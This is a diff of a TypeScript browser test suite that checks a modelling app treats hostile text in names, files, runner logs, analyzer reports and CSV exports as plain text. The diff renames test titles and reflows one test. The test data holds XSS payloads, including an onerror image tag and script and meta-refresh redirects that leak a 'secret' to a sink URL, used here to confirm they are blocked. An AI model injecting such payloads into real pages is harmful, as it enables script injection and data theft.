@@ -97,7 +97,7 @@ async function expectUnharmed(): Promise<void> {
 }
 
 describe('hostile text', () => {
-  it('as names stand in every list as they are', async () => {
+  it('in names is shown unchanged in every list', async () => {
     for (const name of names) {
       await create({ object_type: 'data', name, data: '{"a": 1}' });
       await create({ object_type: 'experiment', name });
@@ -119,7 +119,7 @@ describe('hostile text', () => {
     await expectUnharmed();
   });
 
-  it('as file names and contents of a model stay text', async () => {
+  it('in file names and contents of a model stays text', async () => {
     const tree = [
       { name: 'main.stan', type: 'file', content: 'parameters { real x; }\n', encoding: 'text' },
       { name: `<img src=x onerror=window.pwned=1>.md`, type: 'file', content: `# hi\n${names[1]}` },
@@ -134,7 +134,7 @@ describe('hostile text', () => {
     await expectUnharmed();
   });
 
-  it('as variables, chains, log lines and run info of a runner stay text', async () => {
+  it('in variables, chains, log lines and run info of a runner stays text', async () => {
     const id = await create({ object_type: 'experiment', name: names[1], meta: { status: 'RUN' } });
     const batch = { batch_id: 'b', run_id: 'r' };
     await update(id, { object_type: 'experiment', status: 'RUN', meta: { run_info: batch } });
@@ -189,7 +189,7 @@ describe('hostile text', () => {
     await expectUnharmed();
   });
 
-  it('as a report run only where nothing of the app can be reached', async () => {
+  it('in a report runs only where nothing of the app can be reached', async () => {
     const model = await create({ object_type: 'model', name: 'm' });
     const workflow = await create({ object_type: 'workflow', name: 'w', model_id: model });
     await update(workflow, {
@@ -223,30 +223,27 @@ describe('hostile text', () => {
   it.each([
     ['a script', (to: string) => `<script>location.href = '${to}'</script>`],
     ['a refresh', (to: string) => `<meta http-equiv="refresh" content="0; url=${to}">`],
-  ])(
-    'as a report in a tab of its own cannot take what it shows elsewhere by %s',
-    async (_, leave) => {
-      const workflow = await create({ object_type: 'workflow', name: 'w' });
-      await update(workflow, {
-        object_type: 'workflow.analyzer_result',
-        return_code: 0,
-        errlines: [],
-        result: gzipSync(
-          `<!doctype html><h1>r</h1>${leave(`${sink.origin}/left?secret`)}`,
-        ).toString('base64'),
-      });
-      const asked = await served.call('GET', `/api/object/${workflow}?view-analyzer=true`);
-      const alone = await visitor.context.newPage();
-      const refused = alone.waitForEvent('console', (message) => /frame-src/.test(message.text()));
-      await alone.goto((asked.data as { url: string }).url);
-      await refused;
-      expect(new URL(alone.url()).origin).toBe(served.origin);
-      expect(sink.asked).toEqual([]);
-      await alone.close();
-    },
-  );
+  ])('in a report in its own tab cannot send its content elsewhere by %s', async (_, leave) => {
+    const workflow = await create({ object_type: 'workflow', name: 'w' });
+    await update(workflow, {
+      object_type: 'workflow.analyzer_result',
+      return_code: 0,
+      errlines: [],
+      result: gzipSync(`<!doctype html><h1>r</h1>${leave(`${sink.origin}/left?secret`)}`).toString(
+        'base64',
+      ),
+    });
+    const asked = await served.call('GET', `/api/object/${workflow}?view-analyzer=true`);
+    const alone = await visitor.context.newPage();
+    const refused = alone.waitForEvent('console', (message) => /frame-src/.test(message.text()));
+    await alone.goto((asked.data as { url: string }).url);
+    await refused;
+    expect(new URL(alone.url()).origin).toBe(served.origin);
+    expect(sink.asked).toEqual([]);
+    await alone.close();
+  });
 
-  it('as CSV of a list cannot become formulas', async () => {
+  it('in the CSV of a list cannot become a formula', async () => {
     await page.goto(`${served.origin}/experiments`);
     await page.getByText(names[0]).first().waitFor();
     const downloading = page.waitForEvent('download');
